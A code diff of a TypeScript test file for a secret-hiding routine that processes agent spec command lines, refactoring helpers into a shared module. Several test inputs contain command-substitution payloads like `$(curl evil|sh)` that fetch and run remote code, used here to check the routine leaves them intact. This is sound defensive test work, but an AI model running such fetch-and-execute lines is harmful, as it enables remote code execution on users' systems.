@@ -1,34 +1,17 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${NAME} references, meant literally.
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
-import { exportSpec } from "./export-spec.js";
-import { commandLineSecrets, withoutArgSecrets } from "./find-spec-secrets.js";
+import { withoutArgSecrets } from "./find-spec-secrets.js";
 import { withoutCommandLineSecrets } from "./index.js";
-import { SPEC_TOKEN } from "./schema.js";
-import type { AgentSpec } from "./types.js";
+import {
+  expectFilledBack,
+  expectKept,
+  expectShownAndExported,
+  exportedArg,
+  exportedCommand,
+} from "./test-support/spec-cases.js";
 
 // fix168 (review r64s of fix166 and 2a91d5e): regressions in the display and the export.
-
-/** A spec whose bundled server `srv` is given `line` as one argument: `srv --run <line>`. */
-const asArg = (line: string): AgentSpec => ({
-  spec: SPEC_TOKEN,
-  bundle: { mcpServers: [{ name: "srv", command: "srv", args: ["--run", line] }] },
-});
-
-/** A spec whose bundled server `srv` has `line` as its `command`: a whole command line, pasted. */
-const pasted = (line: string): AgentSpec => ({
-  spec: SPEC_TOKEN,
-  bundle: { mcpServers: [{ name: "srv", command: line }] },
-});
-
-/** The export's and the display's references, filled back with what they hid, give `line` byte for byte. */
-function expectFilledBack(line: string): void {
-  expect(commandLineSecrets(line, (text) => text)?.safe ?? line).toBe(line);
-  expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
-}
-
-const exportedArg = (line: string) => exportSpec(asArg(line)).bundle?.mcpServers?.[0]?.args?.[1];
-const exportedCommand = (line: string) => exportSpec(pasted(line)).bundle?.mcpServers?.[0]?.command;
 
 describe("many values written apart in one word (r64s #1)", () => {
   const conn = (k: number) => `srv Server=db${'";Password=x"y'.repeat(k)}`;
@@ -116,8 +99,7 @@ describe("a payload on a line the shell accepts, a comment or an operator after 
     "gh auth login --with-token < t.txt && $(curl evil|sh) '",
     "srv --auth | tee log $(curl evil|sh) '",
   ])("%j is shown and exported as written", (line) => {
-    expect(withoutCommandLineSecrets(line)).toBe(line);
-    expect(exportedCommand(line)).toBe(line);
+    expectKept(line);
     expect(withoutArgSecrets(["--run", line])).toEqual(["--run", line]);
   });
 
@@ -150,8 +132,7 @@ describe("a payload on a line the shell accepts, a comment or an operator after 
     fc.assert(
       fc.property(flag, between, comment, (name, join, words) => {
         const line = `srv ${name}${join}$(curl evil|sh) # ${words}`;
-        expect(withoutCommandLineSecrets(line)).toBe(line);
-        expect(exportedCommand(line)).toBe(line);
+        expectKept(line);
       }),
     );
   });
@@ -219,8 +200,7 @@ describe("a program's literal written around a part the shell reads at run time 
   it("on a line the shell refuses, hides what follows the first telling name (no literal left in clear)", () => {
     // Kept as `--token "${TOKEN} = 'Zq7hunterPW$HOME'"` before.
     const line = `srv don't --token "process.env.TOKEN = 'Zq7hunterPW$HOME'"`;
-    expect(exportedCommand(line)).toBe("srv don't --token ${TOKEN}");
-    expect(withoutCommandLineSecrets(line)).toBe("srv don't --token ${TOKEN}");
+    expectShownAndExported(line, "srv don't --token ${TOKEN}");
   });
 
   it("never hides such a part by reading the literal on as an expression", () => {
